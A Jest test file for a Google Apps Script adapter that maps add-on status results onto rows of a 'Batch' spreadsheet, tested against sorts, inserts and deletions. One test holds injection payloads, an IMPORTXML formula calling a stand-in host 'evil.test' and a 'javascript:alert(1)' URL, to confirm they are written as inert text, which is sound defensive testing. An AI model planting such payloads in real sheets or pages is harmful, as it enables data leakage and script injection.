/**
 * The BatchSheetPort adapter over the emulated SpreadsheetApp, in-process: the Batch sheet is set up by
 * the real bundle, then Jenny sorts, inserts and deletes rows between the engine's read and its write.
 */
import { Range } from '../../../emulator/services/spreadsheet';
import { GasBatchSheet, type BatchSheetServices } from '../../../src/server/gas/batch-sheet';
import type { RowCells } from '../../../src/server/ports/sheet';
import { columnOf, DESCRIPTION, PHOTO, setUpWorld, type Setup } from './helpers';

const post = (n: number) => `https://www.tiktok.com/@shop/photo/74000000000000000${n}0`;

function adapterFor(ctx: Setup): GasBatchSheet {
  const services = {
    newUuid: () => ctx.env.newId('uuid'),
    newRichText: () => ctx.app.newRichTextValue(),
  } as unknown as BatchSheetServices;
  return new GasBatchSheet(ctx.spreadsheet as unknown as GoogleAppsScript.Spreadsheet.Spreadsheet, services);
}

function setUpWithRows(count: number) {
  const ctx = setUpWorld();
  expect(ctx.setUp().status).toBe('completed');
  const lines = Array.from({ length: count }, (_, i) => [post(i + 1), PHOTO, `${DESCRIPTION} #${i + 1}`]);
  ctx.batch().getRange(2, 1, count, 3).setValues(lines);
  return { ctx, sheet: ctx.batch(), adapter: adapterFor(ctx) };
}

/** Link → the Status, Output and Error cells of the row holding that link now. */
function cellsByLink(ctx: Setup) {
  const sheet = ctx.batch();
  const last = sheet.getLastRow();
  const link = columnOf(ctx, 'link');
  const out = new Map<string, { status: unknown; output: unknown; error: unknown; url: string | null }>();
  for (let row = 2; row <= last; row++) {
    const value = sheet.getRange(row, link).getValue();
    if (value === '') continue;
    const outputCell = sheet.getRange(row, columnOf(ctx, 'output'));
    out.set(String(value), {
      status: sheet.getRange(row, columnOf(ctx, 'status')).getValue(),
      output: outputCell.getValue(),
      error: sheet.getRange(row, columnOf(ctx, 'error')).getValue(),
      url: outputCell.getRichTextValue()?.getLinkUrl() ?? null,
    });
  }
  return out;
}

describe('GasBatchSheet.readRows', () => {
  it('reads every filled row and gives each a short, unique, hidden id once', () => {
    const { ctx, sheet, adapter } = setUpWithRows(3);
    sheet.getRange(6, 3).setValue('only a description');
    sheet.getRange(2, columnOf(ctx, 'photoVariations')).setValue(4);
    const rows = adapter.readRows();
    expect(rows.map((r) => r.rowNumber)).toEqual([2, 3, 4, 6]);
    expect(rows[0]).toMatchObject({ link: post(1), photo: PHOTO, photoVariations: 4, textVariations: null });
    expect(rows[3]).toMatchObject({ link: '', photo: '', description: 'only a description' });
    const ids = rows.map((r) => r.rowId);
    expect(new Set(ids).size).toBe(4);
    for (const id of ids) expect(id).toMatch(/^r[0-9a-f]{10}$/);
    expect(sheet.getRange(2, columnOf(ctx, 'rowId'), 5, 1).getValues().flat()).toEqual([
      ids[0],
      ids[1],
      ids[2],
      '',
      ids[3],
    ]);
    expect(adapter.readRows().map((r) => r.rowId)).toEqual(ids);
  });

  it('gives a copied row (hidden id and all) its own id', () => {
    const { ctx, sheet, adapter } = setUpWithRows(2);
    const [first] = adapter.readRows();
    const width = sheet.getLastColumn();
    sheet.getRange(4, 1, 1, width).setValues(sheet.getRange(2, 1, 1, width).getValues());
    const rows = adapter.readRows();
    expect(rows[0]?.rowId).toBe(first?.rowId);
    expect(rows[2]?.rowId).not.toBe(first?.rowId);
    expect(sheet.getRange(4, columnOf(ctx, 'rowId')).getValue()).toBe(rows[2]?.rowId);
  });

  it('says which header is missing and how to get it back', () => {
    const { ctx, sheet, adapter } = setUpWithRows(1);
    sheet.deleteColumn(columnOf(ctx, 'description'));
    expect(() => adapter.readRows()).toThrow(
      'The Batch sheet has no "Product description" column: use Extensions › Slideshow Remix › Set up sheet to add it back (nothing you typed is removed).',
    );
  });

  it('says so when there is no Batch sheet', () => {
    const ctx = setUpWorld();
    expect(() => adapterFor(ctx).readRows()).toThrow(
      'This spreadsheet has no Batch sheet: use Extensions › Slideshow Remix › Set up sheet to create it.',
    );
  });
});

describe('GasBatchSheet.writeRowCells: statuses by id', () => {
  it('land on the right rows after a sort, an insert and a delete between the read and the write', () => {
    const { ctx, sheet, adapter } = setUpWithRows(5);
    const rows = adapter.readRows();

    // Jenny, while the batch runs: sorts by description descending, inserts two rows, deletes one.
    sheet.sort(columnOf(ctx, 'description'), false);
    sheet.insertRowsBefore(3, 2);
    const deletedRow = 2 + 1 + 2; // the 2nd sorted row moved down by the two new rows
    const deletedLink = String(sheet.getRange(deletedRow, columnOf(ctx, 'link')).getValue());
    sheet.deleteRow(deletedRow);

    const updates = new Map<string, RowCells>(
      rows.map((row) => [
        row.rowId,
        {
          status: `Done ${row.link.slice(-3)}`,
          output: {
            url: `https://drive.google.com/drive/folders/folder${row.rowNumber}`,
            label: `Link_00${row.rowNumber - 1}`,
          },
          error: '',
        },
      ]),
    );
    adapter.writeRowCells(updates);

    const after = cellsByLink(ctx);
    expect(after.size).toBe(4);
    expect(after.has(deletedLink)).toBe(false);
    for (const row of rows) {
      if (row.link === deletedLink) continue;
      expect(after.get(row.link)).toEqual({
        status: `Done ${row.link.slice(-3)}`,
        output: `Link_00${row.rowNumber - 1}`,
        error: '',
        url: `https://drive.google.com/drive/folders/folder${row.rowNumber}`,
      });
    }
    // The inserted rows stay empty: nothing was written on them.
    expect(
      sheet
        .getRange(3, 1, 2, sheet.getLastColumn())
        .getValues()
        .flat()
        .every((v) => v === ''),
    ).toBe(true);
  });

  it('reads once and writes one range per block of adjacent cells', () => {
    const { adapter } = setUpWithRows(4);
    const rows = adapter.readRows();
    const reads = jest.spyOn(Range.prototype, 'getDisplayValues');
    const writes = jest.spyOn(Range.prototype, 'setRichTextValues');
    try {
      adapter.writeRowCells(new Map(rows.map((row) => [row.rowId, { status: 'Queued', error: '' }])));
      expect(reads).toHaveBeenCalledTimes(1);
      // Status and Error are not next to each other (Output is between): two blocks of 4 rows each.
      expect(writes.mock.contexts.map((range) => (range as Range).getA1Notation())).toEqual([
        'F2:F5',
        'H2:H5',
      ]);
    } finally {
      reads.mockRestore();
      writes.mockRestore();
    }
  });

  it('skips an id whose row was deleted, or emptied, silently', () => {
    const { ctx, sheet, adapter } = setUpWithRows(3);
    const [first, second, third] = adapter.readRows();
    sheet.deleteRow(2);
    sheet.getRange(3, 1, 1, 3).clearContent(); // the third row, now row 3, emptied
    adapter.writeRowCells(
      new Map([
        [first?.rowId ?? '', { status: 'Done' }],
        [second?.rowId ?? '', { status: 'Done' }],
        [third?.rowId ?? '', { status: 'Done' }],
        ['r-unknown', { status: 'Done' }],
      ]),
    );
    expect(sheet.getRange(2, columnOf(ctx, 'status'), 2, 1).getValues().flat()).toEqual(['Done', '']);
  });

  it('writes text as text: formulas, numbers and dates from Gemini or Jenny stay what they say', () => {
    const { ctx, sheet, adapter } = setUpWithRows(1);
    const [row] = adapter.readRows();
    const texts = {
      status: '=IMPORTXML("https://evil.test","//a")',
      error: '+33 6 12 34 56 78 -5 @user TRUE 1/2/2026',
    };
    adapter.writeRowCells(
      new Map([[row?.rowId ?? '', { ...texts, output: { url: 'javascript:alert(1)', label: '=1+1' } }]]),
    );
    for (const [key, text] of Object.entries({ ...texts, output: '=1+1' })) {
      const cell = sheet.getRange(2, columnOf(ctx, key as 'status' | 'error' | 'output'));
      expect(cell.getFormula()).toBe('');
      expect(cell.getValue()).toBe(text);
    }
    // Only an https address becomes a link.
    expect(sheet.getRange(2, columnOf(ctx, 'output')).getRichTextValue()?.getLinkUrl()).toBeNull();
  });

  it('clears Output and Error when asked, and leaves cells it was not given alone', () => {
    const { ctx, sheet, adapter } = setUpWithRows(1);
    const [row] = adapter.readRows();
    const id = row?.rowId ?? '';
    adapter.writeRowCells(
      new Map([
        [
          id,
          {
            status: 'Failed: x',
            output: { url: 'https://drive.google.com/drive/folders/f', label: 'Link_001' },
            error: 'x',
          },
        ],
      ]),
    );
    adapter.writeRowCells(new Map([[id, { output: null, error: '' }]]));
    expect(sheet.getRange(2, columnOf(ctx, 'status')).getValue()).toBe('Failed: x');
    expect(sheet.getRange(2, columnOf(ctx, 'output')).getValue()).toBe('');
    expect(sheet.getRange(2, columnOf(ctx, 'output')).getRichTextValue()?.getLinkUrl()).toBeNull();
    expect(sheet.getRange(2, columnOf(ctx, 'error')).getValue()).toBe('');
  });
});

describe('GasBatchSheet.readRowChecks', () => {
  it('pairs each row with its check, keyed by the row id', () => {
    const { ctx, sheet, adapter } = setUpWithRows(3);
    sheet.getRange(3, 1).setValue(post(1));
    sheet.getRange(4, columnOf(ctx, 'textVariations')).setValue('lots');
    const result = adapter.readRowChecks({ maxLinks: 100 });
    expect(
      result.rows.map((r) => [r.row.rowNumber, r.check.rowId === r.row.rowId, r.check.status.split(':')[0]]),
    ).toEqual([
      [2, true, 'Ready'],
      [3, true, 'Duplicate of row 2'],
      [4, true, 'Invalid text variations (lots)'],
    ]);
    expect(result.readyCount).toBe(1);
  });
});
